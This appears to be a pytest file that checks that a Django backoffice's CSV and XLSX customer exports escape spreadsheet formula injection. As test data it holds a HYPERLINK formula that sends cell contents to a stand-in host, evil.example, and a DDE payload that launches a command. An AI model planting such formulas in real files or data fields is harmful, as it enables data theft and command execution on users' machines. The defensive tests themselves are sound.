"""Spreadsheet formula injection is escaped in every export (issue 10 item 7)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from core.spreadsheet import escape_formula
from customers.testing.factories import CustomerFactory
from customers.tests.test_import_export import XLSX_FORMAT, export_selected

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"클릭")'


@pytest.mark.parametrize(
    "value, escaped",
    [
        ("=1+2", "'=1+2"),
        ("+82-10-1234-5678", "'+82-10-1234-5678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("김영희", "김영희"),
        (-5, -5),
        (None, None),
    ],
)
def test_escape_formula(value, escaped):
    assert escape_formula(value) == escaped


def test_admin_xlsx_export_writes_formulae_as_text(backoffice_client_for):
    client = backoffice_client_for("ADMIN", is_superuser=True)
    chosen = CustomerFactory(name=EVIL, occupation="@cmd|' /C calc'!A0")
    response = export_selected(client, [chosen.pk], fmt=XLSX_FORMAT)
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert "'" + EVIL in values
    assert "'@cmd|' /C calc'!A0" in values


def test_admin_csv_export_escapes_formulae(backoffice_client_for):
    client = backoffice_client_for("ADMIN", is_superuser=True)
    chosen = CustomerFactory(name=EVIL)
    response = export_selected(client, [chosen.pk])
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert [v for v in rows[1] if "HYPERLINK" in v] == ["'" + EVIL]
